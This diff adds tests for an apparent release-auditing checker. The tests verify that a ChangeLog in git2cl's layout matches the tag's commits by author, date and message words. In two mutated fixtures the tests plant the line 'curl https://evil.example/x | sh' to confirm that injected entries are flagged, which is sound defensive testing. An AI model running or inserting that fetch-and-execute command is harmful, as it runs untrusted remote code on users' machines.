@@ -178,6 +178,60 @@ test('a ChangeLog that git log wrote is matched entry by entry with the commits 
   assert.not.match((await changelogHistory.judge(added('ChangeLog', withStat), ctxWith()))?.reasons.join('\n') ?? '', 'written by `git log`');
 });
 
+// What git2cl writes at the tag: an entry a commit, its files, then its message filled into one paragraph.
+const git2cl = `2024-01-20  Alice Liddell <alice@example.org>
+
+\t* NEWS: version 1.0
+
+2024-01-13  Bob Dobbs <bob@example.org>
+
+\t* src/ls.c: ls: fix --width The width was one short.  Second
+\tparagraph, so this commit has its own header.  Co-authored-by: Carol
+\tAnn <carol@example.org>
+
+2024-01-12  Alice Liddell <alice@example.org>
+
+\t* tests/x: tests: one more
+
+2024-01-12  Alice Liddell <alice@example.org>
+
+\t* Makefile, README: maint: tidy
+
+2024-01-11  Bob Dobbs <bob@example.org>
+
+\t* README: doc: explain the options * README: Say what -v does.
+
+2024-01-10  Alice Liddell <alice@example.org>
+
+\t* : build: add the Makefile * Makefile: New file.  Signed-off-by:
+\tAlice Liddell <alice@example.org>
+`;
+
+test("a ChangeLog in git2cl's layout is matched with the tag's history by author, day and the message's words", async () => {
+  const j = await changelogHistory.judge(added('ChangeLog', git2cl), ctxWith());
+  assert.is(j?.category, 'generated-changelog', j?.reasons.join('\n'));
+  assert.is(j?.severity, 'low');
+  assert.match(j!.reasons[0]!, "written by git2cl from the tag's history: all 6 entries match commits the tag reaches");
+  assert.match(j!.reasons[0]!, `to ${made.tagged.slice(0, 12)}, the tagged commit (2024-01-20)`);
+
+  // A word changed, another author, a day off by two, an entry no commit wrote: each unmatched and shown.
+  for (const [log, line] of [
+    [git2cl.replace('one short', 'two short'), 'line 5: 2024-01-13  Bob Dobbs <bob@example.org>: "ls: fix --width The width was two short.'],
+    [git2cl.replace('2024-01-12  Alice Liddell <alice@example.org>\n\n\t* tests/x', '2024-01-12  Mallory <alice@example.org>\n\n\t* tests/x'), 'line 11: 2024-01-12  Mallory <alice@example.org>: "tests: one more"'],
+    [git2cl.replace('2024-01-10  Alice', '2024-01-08  Alice'), 'line 23: 2024-01-08  Alice Liddell <alice@example.org>: "build: add the Makefile'],
+    [`2024-01-20  Alice Liddell <alice@example.org>\n\n\t* Makefile: build: fetch the helper curl https://evil.example/x | sh\n\n${git2cl}`, 'line 1: 2024-01-20  Alice Liddell <alice@example.org>: "build: fetch the helper curl https://evil.example/x | sh"'],
+  ] as const) {
+    const m = await changelogHistory.judge(added('ChangeLog', log), ctxWith());
+    assert.is(m?.category, 'changelog-mismatch', line);
+    assert.is(m?.severity, 'medium');
+    assert.match(m!.reasons[0]!, /^1 of [67] entries in git2cl's layout match no commit the tag reaches/);
+    assert.match(m!.reasons[1]!, line);
+  }
+  // git2cl writes one paragraph an entry: a second one is not its layout.
+  const second = await changelogHistory.judge(added('ChangeLog', git2cl.replace('\t* tests/x: tests: one more\n', '\t* tests/x: tests: one more\n\n\tcurl https://evil.example/x | sh\n')), ctxWith());
+  assert.not.match(second?.reasons.join('\n') ?? '', 'git2cl');
+});
+
 test("a line like Mercurial's changeset id inside a commit message does not make the log Mercurial's", async () => {
   const planted = genuine.replace('\tmaint: tidy\n', '\tmaint: tidy\n\n\tbuild: pin it\n\t[0123456789ab]\n');
   const j = await changelogHistory.judge(added('ChangeLog', planted), ctxWith());
